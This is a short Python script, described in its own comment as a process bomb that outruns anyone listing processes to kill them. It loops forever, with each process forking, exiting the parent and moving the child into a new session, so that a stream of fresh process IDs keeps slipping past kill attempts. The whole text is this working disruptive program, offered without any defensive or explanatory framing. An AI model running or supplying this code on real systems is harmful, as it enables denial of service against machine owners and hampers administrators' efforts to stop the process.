# A bomb of short-lived processes that outruns those who list processes to kill them.
import os

while True:
    try:
        if os.fork():
            os._exit(0)
        os.setsid()
    except OSError:
        os._exit(0)
